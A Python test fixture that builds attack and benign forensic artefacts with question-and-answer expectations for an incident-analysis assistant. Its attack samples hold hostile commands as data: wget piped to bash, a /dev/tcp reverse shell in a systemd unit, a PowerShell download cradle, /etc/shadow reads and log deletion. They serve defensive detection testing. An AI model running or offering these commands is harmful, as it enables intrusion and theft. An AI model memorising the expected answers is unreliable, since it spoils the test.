"""For each host artefact an attack and a quiet day (``tests/support/host_files.py``), and six ordinary questions."""

from __future__ import annotations

import json
from functools import cache

from tests.support import host_files as made
from tests.svc.assistant.host_artefacts.configured import configured_samples
from tests.svc.assistant.host_artefacts.live import Sample, live_samples

RUN = r"Software\Microsoft\Windows\CurrentVersion\Run"
ASSIST = r"Software\Microsoft\Windows\CurrentVersion\Explorer\UserAssist\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\Count"
SERVICES = r"ControlSet001\Services"
VOLUME = r"\VOLUME{01d5f0a0b0c0d0e0-1a2b3c4d}"


@cache
def samples() -> dict[str, Sample]:
    """The samples by the artefact's name."""
    return {
        **_unix(),
        **_text(),
        **live_samples(),
        **configured_samples(),
        **_windows(),
        **_ntfs(),
        **_browsers(),
        **_macos(),
    }


def _unix() -> dict[str, Sample]:
    records = [
        made.utmp_record(made.BOOT, "2026-11-20 01:00:00", "reboot", "~", "6.1.0-18-amd64"),
        made.utmp_record(made.LOGIN, "2026-11-20 03:12:45", "mara", "pts/0", "192.0.2.7", "192.0.2.7"),
        made.utmp_record(made.LOGOUT, "2026-11-20 04:00:00", "", "pts/0"),
        made.utmp_record(made.LOGIN, "2026-11-20 08:00:00", "deploy", "pts/1", "198.51.100.4", "198.51.100.4"),
    ]
    failed = [
        made.utmp_record(
            made.LOGIN_PROCESS,
            f"2026-11-20 03:{n // 60:02}:{n % 60:02}",
            ("root", "admin", "mara")[n % 3],
            "ssh:notty",
            "203.0.113.7",
            "203.0.113.7",
        )
        for n in range(60)
    ]
    typing = [
        made.utmp_record(made.LOGIN_PROCESS, f"2026-11-20 0{n}:00:00", "mara", "ssh:notty", "192.0.2.7", "192.0.2.7")
        for n in range(1, 4)
    ]
    cron = (
        b"SHELL=/bin/sh\nPATH=/usr/sbin:/usr/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
        b"25 6 * * * root test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily\n"
    )
    bad_cron = (
        cron + b"*/5 * * * * www-data wget -qO- http://203.0.113.7/u | bash\n@reboot root /dev/shm/.k/agent --daemon\n"
    )
    unit = (
        b"[Unit]\nDescription=Nightly export\nAfter=network.target\n\n[Service]\nType=simple\nUser=backup\n"
        b"ExecStart=/usr/local/bin/export --all\nRestart=on-failure\n\n[Install]\nWantedBy=multi-user.target\n"
    )
    bad_unit = (
        b"[Unit]\nDescription=System log helper\n[Service]\nExecStart=/bin/bash -c 'bash -i >& "
        b"/dev/tcp/203.0.113.7/443 0>&1'\n"
        b"Restart=always\n[Install]\nWantedBy=multi-user.target\n"
    )
    return {
        "wtmp": Sample(
            ("wtmp", b"".join([*records[:2], bytes(384), *records[2:]])),
            ("wtmp", b"".join(records)),
            (4, 4),
            ("T1070",),
            (
                ("Who logged in, and from where?", ("mara", "192[.]0[.]2[.]7", "2026-11-20 03:12:45 UTC", "deploy")),
                ("Is anything suspicious here?", ("overwritten with zeros",)),
                ("When was the computer booted?", ("2026-11-20 01:00:00 UTC",)),
            ),
            (
                ("When did deploy log in?", ("2026-11-20 08:00:00 UTC", "198[.]51[.]100[.]4")),
                ("Which sessions ended?", ("2026-11-20 04:00:00 UTC",)),
                ("Which programs were executed?", ("does not record executions",)),
            ),
        ),
        "btmp": Sample(
            ("btmp", b"".join(failed)),
            ("btmp", b"".join(typing)),
            (60, 3),
            ("T1110",),
            (
                ("Which logins failed?", ("60 failed logins", "203[.]0[.]113[.]7")),
                ("Is anything suspicious here?", ("60 failed logins from 203[.]0[.]113[.]7 on 3 accounts",)),
                ("Which accounts were attacked?", ("root", "admin")),
            ),
            (
                ("How many logins failed?", ("3 failed logins", "mara")),
                ("Did anyone log in?", ("Cannot tell", "does not record logins")),
                ("From where did the failed logins come?", ("192[.]0[.]2[.]7",)),
            ),
        ),
        "crontab": Sample(
            ("crontab", bad_cron),
            ("crontab", cron),
            (4, 2),
            ("T1105", "T1053.003"),
            (
                ("Is anything suspicious here?", ("203[.]0[.]113[.]7/u", "/dev/shm/.k/agent")),
                ("What persists?", ("4 autostart entries", "/dev/shm/.k/agent")),
                ("What does cron run as www-data?", ("wget", "bash")),
            ),
            (
                ("Which jobs run?", ("run-parts --report /etc/cron.hourly", "root")),
                ("Is anything suspicious here?", ("2 autostart entries",)),
                ("When did the jobs last run?", ("neither when the job was made nor whether it ran",)),
            ),
        ),
        "systemd unit": Sample(
            ("syslog-helper.service", bad_unit),
            ("export.service", unit),
            (1, 1),
            ("T1059.004",),
            (
                ("Is anything suspicious here?", ("/dev/tcp/",)),
                ("What does this unit start?", ("/dev/tcp/", "root")),
                ("What persists?", ("WantedBy",)),
            ),
            (
                ("What is started at boot?", ("/usr/local/bin/export", "backup")),
                ("Is the service enabled?", ("whether it is enabled",)),
                ("Which user does the service run as?", ("backup",)),
            ),
        ),
    }


def _text() -> dict[str, Sample]:
    quiet_history = (
        b"#1795154000\nls -la\n#1795154060\ncd /srv/app && git pull\n#1795154120\nsudo systemctl restart app\n"
    )
    bad_history = quiet_history + (
        b"#1795154180\nwget http://203.0.113.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x\n#1795154240\ncat /etc/shadow\n"
        b"#1795154300\nrm -f /var/log/auth.log /var/log/wtmp\n#1795154360\nhistory -c\n"
    )
    cradle = "PS C:\\Users\\mara> IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"
    return {
        "shell history": Sample(
            (".bash_history", bad_history),
            (".bash_history", quiet_history),
            (7, 3),
            ("T1070.002",),
            (
                ("Which commands were typed?", ("7 commands", "history -c")),
                ("Is anything suspicious here?", ("System logs deleted or overwritten",)),
                ("When were logs deleted?", ("/var/log/auth.log", "2026-11-20")),
            ),
            (
                ("Which commands were run with sudo?", ("sudo systemctl restart app",)),
                ("Is anything suspicious here?", ("3 commands",)),
                ("When was git pull typed?", ("git pull", "2026-11-20 05:54:20 UTC")),
            ),
        ),
        "PowerShell transcript": Sample(
            (
                "PowerShell_transcript.WS-17.txt",
                made.transcript("powershell.exe -nop -w hidden", [cradle, "PS C:\\Users\\mara> whoami", "corp\\mara"]),
            ),
            (
                "PowerShell_transcript.WS-17.txt",
                made.transcript(
                    "powershell.exe", ["PS C:\\Users\\mara> Get-ChildItem", "a.txt", "PS C:\\Users\\mara> Get-Date"]
                ),
            ),
            (3, 3),
            ("T1105",),
            (
                ("Which commands were run?", ("whoami", "zone not stated")),
                ("Is anything suspicious here?", ("PowerShell download cradle",)),
                ("Who ran them?", ("mara",)),
            ),
            (
                ("Which commands were typed?", ("Get-ChildItem", "Get-Date")),
                ("Which programs ran?", ("does not record executions",)),
                ("Is anything suspicious here?", ("3 commands",)),
            ),
        ),
        "scheduled task": Sample(
            (
                "Update",
                made.task("powershell.exe", "-NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", hidden=True),
            ),
            (
                "Backup",
                made.task(
                    r"C:\Program Files\Backup\backup.exe", "/nightly", name="\\Backup", trigger="CalendarTrigger"
                ),
            ),
            (1, 1),
            ("T1059.001",),
            (
                ("Is anything suspicious here?", ("Encoded PowerShell command",)),
                ("What does the task start?", ("powershell.exe", "at logon, hidden")),
                ("What persists?", ("1 autostart entry",)),
            ),
            (
                ("When is the task started?", ("on a schedule",)),
                ("Which program does the task start?", ("backup.exe /nightly",)),
                ("When was the task registered?", ("2026-11-20 03:12:45", "zone not stated")),
            ),
        ),
    }


def _hive(paths: dict[str, tuple[str, dict[str, object]]], name: str) -> bytes:
    return made.hive(made.keys(paths), name=name)


def _windows() -> dict[str, Sample]:
    ran = dict([made.user_assist(r"{1AC14E77-02E7-4E5D-B744-2EB1AE5198B7}\notepad.exe", 12, "2026-11-19 15:00:00")])
    ran_bad = ran | dict([made.user_assist(r"C:\Users\Public\svchost.exe", 1, "2026-11-20 03:10:00")])
    one_drive = {"OneDrive": r'"C:\Users\mara\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background'}
    quiet_user = {
        RUN: ("2026-01-05 08:00:00", dict[str, object](one_drive)),
        ASSIST: ("2026-11-19 15:00:00", dict[str, object](ran)),
    }
    bad_user = {
        RUN: ("2026-11-20 03:12:45", dict[str, object](one_drive | {"Updater": r"C:\Users\Public\svchost.exe -k"})),
        ASSIST: ("2026-11-20 03:12:45", dict[str, object](ran_bad)),
    }
    cache = [
        (r"C:\Windows\System32\cmd.exe", "2026-01-02 08:00:00"),
        (r"C:\Windows\System32\notepad.exe", "2026-01-02 08:00:00"),
    ]
    compat = r"ControlSet001\Control\Session Manager\AppCompatCache"
    system: dict[str, tuple[str, dict[str, object]]] = {
        "Select": ("2026-11-20 00:00:00", {"Current": 1}),
        rf"{SERVICES}\Spooler": (
            "2026-01-02 08:00:00",
            {"ImagePath": r"%SystemRoot%\System32\spoolsv.exe", "Start": 2, "ObjectName": "LocalSystem"},
        ),
        rf"{SERVICES}\EventLog": (
            "2026-01-02 08:00:00",
            {"ImagePath": r"%SystemRoot%\System32\svchost.exe -k LocalServiceNetworkRestricted -p", "Start": 2},
        ),
        compat: ("2026-11-20 00:00:00", {"AppCompatCache": made.shimcache(cache)}),
    }
    bad_system = system | {
        rf"{SERVICES}\BTOBTO": (
            "2026-11-20 03:12:45",
            {
                "ImagePath": r"%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1",
                "Start": 3,
                "ObjectName": "LocalSystem",
            },
        ),
        compat: (
            "2026-11-20 00:00:00",
            {"AppCompatCache": made.shimcache([(r"C:\Users\Public\invoice.pdf.exe", "2026-11-20 03:00:00"), *cache])},
        ),
    }
    prefetch_bad = made.prefetch(
        "MIMIKATZ.EXE",
        rf"{VOLUME}\USERS\PUBLIC\MIMIKATZ.EXE",
        ["2026-11-20 03:12:45", "2026-11-20 03:05:00"],
        2,
        [rf"{VOLUME}\WINDOWS\SYSTEM32\NTDLL.DLL"],
    )
    prefetch_quiet = made.prefetch("NOTEPAD.EXE", rf"{VOLUME}\WINDOWS\SYSTEM32\NOTEPAD.EXE", ["2026-11-19 15:00:00"], 9)
    return {
        "NTUSER.DAT": Sample(
            ("NTUSER.DAT", _hive(bad_user, "NTUSER.DAT")),
            ("NTUSER.DAT", _hive(quiet_user, "NTUSER.DAT")),
            (4, 2),
            ("T1547.001",),
            (
                (
                    "What persists?",
                    (
                        "2 autostart entries",
                        r"C:\Users\Public\svchost.exe -k",
                        "key last written 2026-11-20 03:12:45 UTC",
                    ),
                ),
                ("Is anything suspicious here?", ("Autostart from a temporary, public or download folder",)),
                ("Which programs were run?", ("2 executions", "UserAssist count 1")),
            ),
            (
                ("How often was notepad.exe run?", ("UserAssist count 12", "2026-11-19 15:00:00 UTC")),
                ("Is anything suspicious here?", ("1 autostart entry",)),
                ("Were transaction logs replayed?", ("not replayed",)),
            ),
        ),
        "SYSTEM hive": Sample(
            ("SYSTEM", _hive(bad_system, "SYSTEM")),
            ("SYSTEM", _hive(system, "SYSTEM")),
            (6, 4),
            ("T1543.003", "T1036.007"),
            (
                ("Which services were installed?", ("3 autostart entries", "BTOBTO")),
                ("Is anything suspicious here?", ("Service that runs a shell or script host",)),
                ("What does the shimcache show?", ("3 files that were present", "invoice.pdf.exe")),
            ),
            (
                ("Which services start automatically?", ("spoolsv.exe",)),
                ("Was cmd.exe executed according to the shimcache?", ("not that it ran",)),
                ("Is anything suspicious here?", ("2 autostart entries",)),
            ),
        ),
        "prefetch": Sample(
            ("MIMIKATZ.EXE-1A2B3C4D.pf", made.compressed(prefetch_bad)),
            ("NOTEPAD.EXE-1A2B3C4D.pf", prefetch_quiet),
            (2, 1),
            ("T1003",),
            (
                ("What ran?", ("2 executions", "MIMIKATZ.EXE", "2026-11-20 03:12:45 UTC")),
                ("Is anything suspicious here?", ("Credential theft tool or dump",)),
                ("How often was it run?", ("2 runs in all",)),
            ),
            (
                ("When was notepad.exe last run?", ("last run 2026-11-19 15:00:00 UTC", "9 runs in all")),
                ("Is anything suspicious here?", ("1 execution",)),
                ("Who logged in?", ("does not record logins",)),
            ),
        ),
        "jump list": Sample(
            (
                "5f7b5f1e01b83767.automaticDestinations-ms",
                made.jump_list(
                    [
                        (r"C:\Users\mara\Downloads\invoice.pdf.exe", "2026-11-20 03:00:00", "ws-17"),
                        (r"C:\Users\mara\plan.docx", "2026-11-18 09:00:00", "ws-17"),
                    ]
                ),
            ),
            (
                "5f7b5f1e01b83767.automaticDestinations-ms",
                made.jump_list([(r"C:\Users\mara\plan.docx", "2026-11-18 09:00:00", "ws-17")]),
            ),
            (2, 1),
            ("T1036.007",),
            (
                ("Which documents were opened?", ("2 opened items", "plan.docx", "2026-11-18 09:00:00 UTC")),
                ("Is anything suspicious here?", ("Document name with a program's ending",)),
                ("When was invoice.pdf.exe opened?", ("2026-11-20 03:00:00 UTC",)),
            ),
            (
                ("When was plan.docx last opened?", ("last opened 2026-11-18 09:00:00 UTC",)),
                ("Is anything suspicious here?", ("1 opened item",)),
                ("Which sites were visited?", ("does not record visits",)),
            ),
        ),
    }


def _ntfs() -> dict[str, Sample]:
    quiet = b"".join(
        [
            made.usn_record("report.docx", "2026-11-20 09:00:00", 0x100, file=200),
            made.usn_record("report.docx", "2026-11-20 09:00:01", 0x80000102, file=200),
            made.usn_record("~WRL0001.tmp", "2026-11-20 09:05:00", 0x80000200, file=201),
        ]
    )
    bad = quiet + b"".join(
        [
            made.usn_record("plan.xlsx", "2026-11-20 03:12:45", 0x1000, file=300),
            made.usn_record("plan.xlsx.locked", "2026-11-20 03:12:45", 0x2000, file=300),
            made.usn_record("HOW_TO_DECRYPT.txt", "2026-11-20 03:12:50", 0x100, file=301),
            made.usn_record("mimikatz.exe", "2026-11-20 03:20:00", 0x80000200, file=302),
        ]
    )
    table = [
        made.mft_record(0, "$MFT", "2026-01-02 08:00:00"),
        made.mft_record(1, "Users", "2026-01-02 08:00:00", is_folder=True),
        made.mft_record(2, "Public", "2026-01-02 08:00:00", parent=1, is_folder=True),
        made.mft_record(3, "report.docx", "2026-11-19 09:00:00", parent=2, size=40),
    ]
    bad_table = [
        *table,
        made.mft_record(4, "svc.exe", "2026-11-20 03:12:45", parent=2, streams=["Zone.Identifier"]),
        made.mft_record(5 + 1, "lsass.dmp", "2026-11-20 03:15:00", parent=2, is_used=False),
    ]
    return {
        "USN journal": Sample(
            ("$J", bytes(4096) + bad),
            ("$J", quiet),
            (5, 2),
            ("T1486",),
            (
                ("Which files were deleted?", ("2 file deletions", "mimikatz.exe", "2026-11-20 03:20:00 UTC")),
                ("Is anything suspicious here?", ("File named like a ransom note",)),
                ("Which files were renamed?", ("plan.xlsx.locked", "was plan.xlsx")),
            ),
            (
                ("When was report.docx created?", ("2026-11-20 09:00:00 UTC",)),
                ("Is anything suspicious here?", ("1 file creation",)),
                ("In which folder was it?", ("names a file but not its folder",)),
            ),
        ),
        "MFT": Sample(
            ("$MFT", b"".join(bad_table[:5]) + bytes(1024) + bad_table[5]),
            ("$MFT", b"".join(table)),
            (6, 4),
            ("T1105",),
            (
                (
                    "Which files were created?",
                    ("5 file creations", r"\Users\Public\svc.exe", "2026-11-20 03:12:45 UTC"),
                ),
                ("Which files were deleted?", (r"\Users\Public\lsass.dmp", "when is not known")),
                ("Is anything suspicious here?", ("Program file created in a public or temporary system folder",)),
            ),
            (
                ("When was report.docx created?", ("2026-11-19 09:00:00 UTC",)),
                ("Is anything suspicious here?", ("4 file creations",)),
                ("Which files were deleted?", ("No file deletion is recorded",)),
            ),
        ),
    }


def _browsers() -> dict[str, Sample]:
    visits = [
        ("https://www.example.org/", "Example", "2026-11-20 09:00:00"),
        ("https://intranet.example.org/wiki", "Wiki", "2026-11-20 09:05:00"),
    ]
    bad_visits = [*visits, ("http://203.0.113.7/login.php", "Sign in", "2026-11-20 03:12:00")]
    return {
        "Chrome history": Sample(
            (
                "History",
                made.chrome(
                    bad_visits,
                    [
                        (
                            r"C:\Users\mara\Downloads\invoice.iso",
                            "http://203.0.113.7/invoice.iso",
                            "2026-11-20 03:12:45",
                            1,
                        )
                    ],
                ),
            ),
            (
                "History",
                made.chrome(
                    visits,
                    [
                        (
                            r"C:\Users\mara\Downloads\plan.pdf",
                            "https://www.example.org/plan.pdf",
                            "2026-11-20 09:01:00",
                            0,
                        )
                    ],
                ),
            ),
            (4, 3),
            ("T1204.002",),
            (
                ("Which sites were visited?", ("3 visits", "hxxp://203[.]0[.]113[.]7/login.php")),
                ("What was downloaded?", ("invoice.iso", "2026-11-20 03:12:45 UTC")),
                ("Is anything suspicious here?", ("Download of a script, shortcut or disk image",)),
            ),
            (
                ("When was intranet.example.org visited?", ("2026-11-20 09:05:00 UTC",)),
                ("What was downloaded?", ("plan.pdf", "www[.]example[.]org")),
                ("Is anything suspicious here?", ("2 visits",)),
            ),
        ),
        "Firefox history": Sample(
            (
                "places.sqlite",
                made.firefox(
                    bad_visits, [("/home/mara/Downloads/run.hta", "http://203.0.113.7/run.hta", "2026-11-20 03:12:45")]
                ),
            ),
            ("places.sqlite", made.firefox(visits)),
            (4, 2),
            ("T1204.002",),
            (
                ("What was downloaded, and from where?", ("run.hta", "203[.]0[.]113[.]7")),
                ("Which sites were visited?", ("3 visits",)),
                ("Is anything suspicious here?", ("Download of a script, shortcut or disk image",)),
            ),
            (
                ("Which pages were visited?", ("2 visits", "www[.]example[.]org")),
                ("Was anything downloaded?", ("No: no download is recorded",)),
                ("Which commands were typed?", ("does not record commands",)),
            ),
        ),
    }


def _macos() -> dict[str, Sample]:
    def entry(time: str, process: str, message: str) -> bytes:
        fields = {
            "timestamp": f"2026-11-20 {time}.000000+0100",
            "processImagePath": process,
            "processID": 42,
            "eventMessage": message,
            "messageType": "Default",
            "machTimestamp": 1,
            "subsystem": "",
        }
        return json.dumps(fields).encode() + b"\n"

    quiet = entry(
        "08:00:00", "/usr/libexec/sshd-session", "Accepted publickey for mara from 192.0.2.7 port 50000 ssh2"
    ) + entry(
        "08:01:00",
        "/usr/bin/sudo",
        "    mara : TTY=ttys000 ; PWD=/Users/mara ; USER=root ; COMMAND=/usr/sbin/softwareupdate -l",
    )
    bad = quiet + b"".join(
        entry(f"04:00:{n:02}", "/usr/sbin/sshd", "Failed password for root from 203.0.113.7 port 4000 ssh2")
        for n in range(40)
    )
    bad += entry(
        "04:12:45",
        "/usr/bin/sudo",
        "    mara : TTY=ttys000 ; PWD=/tmp ; USER=root ; COMMAND=/usr/sbin/spctl --master-disable",
    )
    line = (
        "2026-11-20 09:00:0{}.000000+0100 0x1a2b     Default     0x0                  42    0    {}: (libsystem) {}\n"
    )
    text = "Timestamp                       Thread     Type        Activity             PID    TTL  \n" + line.format(
        1, "kernel", "boot"
    )
    return {
        "unified log": Sample(
            ("unified.ndjson", bad),
            ("unified.ndjson", quiet),
            (43, 2),
            ("T1110",),
            (
                ("Which logins failed?", ("40 failed logins", "203[.]0[.]113[.]7")),
                ("Who logged in?", ("mara", "192[.]0[.]2[.]7", "2026-11-20 07:00:00 UTC")),
                ("Is anything suspicious here?", ("Security control switched off",)),
            ),
            (
                ("Which commands were run with sudo?", ("softwareupdate",)),
                ("Did any login fail?", ("No: no failed login is recorded",)),
                ("When did mara log in?", ("2026-11-20 07:00:00 UTC",)),
            ),
        ),
        "unified log (text)": Sample(
            (
                "log.txt",
                (
                    text
                    + line.format(2, "XProtectService", "malware detected: OSX.Example in /Users/mara/Downloads/a.dmg")
                ).encode(),
            ),
            ("log.txt", (text + line.format(3, "loginwindow", "unlocked")).encode()),
            (2, 2),
            ("T1204.002",),
            (
                ("Is anything suspicious here?", ("Malware found or blocked by macOS",)),
                ("Which entries are there?", ("2 log entries",)),
                ("When did it happen?", ("2026-11-20 08:00:02 UTC",)),
            ),
            (
                ("Is anything suspicious here?", ("2 log entries",)),
                ("Which messages are in it?", ("loginwindow",)),
                ("Who logged in?", ("No login is recorded",)),
            ),
        ),
    }
